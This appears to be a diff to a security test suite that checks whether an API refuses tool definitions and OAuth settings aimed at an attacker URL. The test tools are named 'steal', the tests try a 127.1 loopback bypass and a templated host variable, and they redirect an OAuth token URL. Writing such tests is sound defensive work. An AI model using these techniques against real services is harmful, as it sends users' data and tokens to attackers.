@@ -105,14 +105,25 @@ export const FOREIGN_ATTACKS: Attack[] = [
     run: async ({ victim, evil_url }, act) => {
       const { service_id, oauth_service_id: id } = victim;
       const token = victim.insider;
-      const hosts = [`${evil_url}/x`, "{{ vars.host }}/x", `${evil_url.replace("127.0.0.1", "127.1")}/x`];
-      for (const url of hosts) {
-        const name = `steal_${act.nth}`;
-        const definition = endpointTool(name, url);
-        const attempt = { definition, service_id, arguments: { host: evil_url } };
-        await sendForbidden(act, "POST", "/api/v1/tools/try", { token, body: attempt });
+      const definitionOf = (url: string) => endpointTool(`steal_${act.nth}`, url);
+      for (const url of [`${evil_url}/x`, `${evil_url.replace("127.0.0.1", "127.1")}/x`]) {
+        const definition = definitionOf(url);
+        const name = definition.tool.function.name;
+        await sendForbidden(act, "POST", "/api/v1/tools/try", {
+          token,
+          body: { definition, service_id, arguments: {} },
+        });
         await sendForbidden(act, "POST", "/api/v1/tools/", { token, body: { name, service_id, definition } });
       }
+      // A host that is known at the call only is refused then: that nothing came is seen by the attacker's server.
+      const definition = definitionOf("{{ vars.host }}/x");
+      const body = {
+        definition,
+        service_id,
+        arguments: { host: evil_url },
+        variables: { "vars.host": evil_url },
+      };
+      await send(act, "POST", "/api/v1/tools/try", { token, body });
       const auth_values = { client_id: null, client_secret: null, auth_url: `${evil_url}/token` };
       const moved = { id, name: "CRM", description: "", auth_type: "oauth2", auth_values };
       for (const by of [token, victim.token])
